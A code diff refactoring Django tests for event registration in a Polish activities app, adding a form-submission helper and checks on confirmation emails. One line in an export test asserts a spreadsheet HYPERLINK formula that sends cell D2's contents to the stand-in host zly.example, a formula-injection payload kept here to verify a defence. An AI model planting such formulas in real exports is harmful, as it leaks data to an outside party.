@@ -13,7 +13,12 @@ from django.utils import timezone
 
 from partnerstwa.activities.models import Attendance, Registration, Session
 from partnerstwa.activities.services import event_cancel
-from partnerstwa.activities.tests.factories import WARSAW, event, register
+from partnerstwa.activities.tests.factories import (
+    WARSAW,
+    event,
+    register,
+    register_through_the_form,
+)
 from partnerstwa.registry.tests.factories import OrganisationFactory, gmina
 
 pytestmark = pytest.mark.django_db
@@ -94,7 +99,6 @@ def test_the_event_page_shows_free_seats_and_the_registration_form(client, calen
 
 def test_registering_through_the_form(client, calendar, django_capture_on_commit_callbacks):
     OrganisationFactory(name="Urząd Miasta Poznania")
-    slug = calendar["training"].slug
     data = {
         "first_name": "Jan",
         "last_name": "Kowalski",
@@ -103,21 +107,25 @@ def test_registering_through_the_form(client, calendar, django_capture_on_commit
         "language": "pl",
         "consent": "on",
     }
-    with django_capture_on_commit_callbacks(execute=True):
-        response = client.post(reverse("activities:register", args=[slug]), data)
-    assert response.status_code == 302
+    register_through_the_form(
+        client, calendar["training"], data, django_capture_on_commit_callbacks
+    )
     registration = Registration.objects.get()
     assert (
         registration.organisation.name == "Urząd Miasta Poznania" and not registration.needs_review
     )
     assert registration.consent_text.startswith("Wyrażam zgodę")
     assert registration.consent_given_at is not None
-    assert mail.outbox[0].to == ["jan@example.org"]
+    assert [message.to for message in mail.outbox] == [["jan@example.org"]] * 2
+    assert mail.outbox[1].subject.startswith("Rejestracja potwierdzona")
 
 
-def test_a_typed_organisation_is_kept_and_flagged_for_review(client, calendar):
-    client.post(
-        reverse("activities:register", args=[calendar["training"].slug]),
+def test_a_typed_organisation_is_kept_and_flagged_for_review(
+    client, calendar, django_capture_on_commit_callbacks
+):
+    register_through_the_form(
+        client,
+        calendar["training"],
         {
             "first_name": "Jan",
             "last_name": "K",
@@ -126,6 +134,7 @@ def test_a_typed_organisation_is_kept_and_flagged_for_review(client, calendar):
             "language": "pl",
             "consent": "on",
         },
+        django_capture_on_commit_callbacks,
     )
     registration = Registration.objects.get()
     assert registration.organisation is None and registration.organisation_name == "Nowa Fundacja"
@@ -325,11 +334,14 @@ def test_a_formula_typed_in_the_public_form_stays_text_in_the_export(admin_clien
     assert cell.value == '=HYPERLINK("http://zly.example/?x="&D2,"Otwórz")'
 
 
-def test_a_registration_naming_an_ambiguous_organisation_is_flagged_for_review(client, calendar):
+def test_a_registration_naming_an_ambiguous_organisation_is_flagged_for_review(
+    client, calendar, django_capture_on_commit_callbacks
+):
     OrganisationFactory(name="Gmina Świdnica")
     OrganisationFactory(name="Gmina Świdnica")
-    client.post(
-        reverse("activities:register", args=[calendar["training"].slug]),
+    register_through_the_form(
+        client,
+        calendar["training"],
         {
             "first_name": "Jan",
             "last_name": "K",
@@ -338,6 +350,7 @@ def test_a_registration_naming_an_ambiguous_organisation_is_flagged_for_review(c
             "language": "pl",
             "consent": "on",
         },
+        django_capture_on_commit_callbacks,
     )
     registration = Registration.objects.get()
     assert registration.organisation is None and registration.needs_review
